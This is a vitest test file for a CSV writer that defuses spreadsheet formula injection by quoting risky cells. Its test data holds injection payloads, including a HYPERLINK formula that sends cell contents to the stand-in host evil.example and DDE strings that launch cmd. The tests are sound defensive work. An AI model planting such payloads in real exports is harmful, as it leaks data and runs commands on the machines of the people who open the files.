import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { type CsvCell, csvText } from './csv.ts';

const rowsOf = (text: string): string[][] => parse(text, { relaxColumnCount: true });
const cellOf = (cell: CsvCell, form?: 'safe' | 'raw') =>
  rowsOf(csvText(['head'], [['first', cell]], form))[1]![1];

/** Texts that spreadsheets run, in whole or after dropping their first character. */
const formulas = [
  '=1+1',
  '=HYPERLINK("http://evil.example?"&A1,"open")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '=',
  '-',
];

describe('csvText', () => {
  it('keeps the documented form', () => {
    expect(csvText(['name', 'score'], [['=1+1', -0.5]])).toBe("name,score\r\n'=1+1,-0.5\r\n");
    expect(csvText(['a'], [])).toBe('a\r\n');
  });

  it.each(formulas)('takes the force out of %j, but not in the raw form', (text) => {
    expect(cellOf(text)).toBe(`'${text}`);
    expect(cellOf(text, 'raw')).toBe(text);
  });

  it('leaves harmless text and every number alone', () => {
    for (const text of ['Potholes', 'a=b', '5-6', "'quoted", ' = 1', '', '\u202e=1']) {
      expect(cellOf(text)).toBe(text);
    }
    for (const number of [0, -1.5, 1e21, 1e-7, 0.1 + 0.2, -0]) {
      expect(Number(cellOf(number))).toBe(number === 0 ? 0 : number);
    }
    expect(cellOf(null)).toBe('');
  });

  it('gives back what went in, whatever it is', () => {
    const cell = fc.oneof(
      fc.string({ unit: 'binary' }),
      fc.string({ unit: fc.constantFrom('"', ',', ';', '\r', '\n', '\t', ' ', '=', 'a') }),
    );
    fc.assert(
      fc.property(fc.array(fc.tuple(cell, cell), { maxLength: 5 }), (rows) => {
        const read = rowsOf(csvText(['a', 'b'], rows, 'raw'));
        expect(read).toEqual([['a', 'b'], ...rows]);
        const safe = rowsOf(csvText(['a', 'b'], rows)).slice(1);
        for (const [at, row] of safe.entries()) {
          for (const [place, text] of row.entries()) {
            expect(text).not.toMatch(/^[=+\-@\t\r\n]/);
            expect(text.replace(/^'/, '')).toBe(rows[at]![place]!.replace(/^'/, ''));
          }
        }
      }),
    );
  });
});
